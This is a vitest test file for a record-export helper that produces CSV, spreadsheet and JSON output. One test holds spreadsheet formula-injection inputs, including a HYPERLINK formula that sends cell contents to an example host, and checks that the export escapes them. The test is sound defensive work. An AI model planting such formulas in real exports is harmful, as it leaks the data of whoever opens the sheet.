import Papa from 'papaparse';
import type { RecordModel } from 'pocketbase';
import { describe, expect, it, vi } from 'vitest';

vi.mock('~/api/client', () => ({ pb: {} }));
const { pieceOf } = await import('./exportRecords');

const records = [
  { id: 'a', title: 'one, "two"\nthree', tags: ['x', 'y'], place: { lon: 1, lat: 2 } },
  { id: 'b', title: '', tags: [], place: null },
] as unknown as RecordModel[];

describe('a piece of an export', () => {
  it('is CSV that spreadsheets and imports read', () => {
    const text = pieceOf('csv', records, ['id', 'title', 'tags', 'place'], true);
    expect(text).toBe('id,title,tags,place\r\na,"one, ""two""\nthree","[""x"",""y""]","{""lon"":1,""lat"":2}"\r\nb,,,\r\n');
    expect(pieceOf('csv', records, ['id'], false)).toBe('a\r\nb\r\n');
  });

  it('is a sheet in which no text of a visitor is run', () => {
    const hostile = [
      { id: '=1', title: '=HYPERLINK("http://example.com?"&A1)', phone: '+49', sum: -5, at: '@x', tab: '\t=1' },
    ] as unknown as RecordModel[];
    const fields = ['id', 'title', 'phone', 'sum', 'at', 'tab'];
    const cells = Papa.parse<string[]>(pieceOf('sheet', hostile, fields, false).trimEnd()).data[0];
    expect(cells).toEqual(["'=1", `'=HYPERLINK("http://example.com?"&A1)`, "'+49", '-5', "'@x", "'\t=1"]);
    expect(pieceOf('csv', hostile, ['phone'], false)).toBe('+49\r\n'); // what is imported again stays as it is
  });

  it('makes one JSON list of many pieces', () => {
    const text = `[${pieceOf('json', records, ['id'], true)}${pieceOf('json', records, ['id'], false)}]`;
    expect(JSON.parse(text)).toHaveLength(4);
  });
});
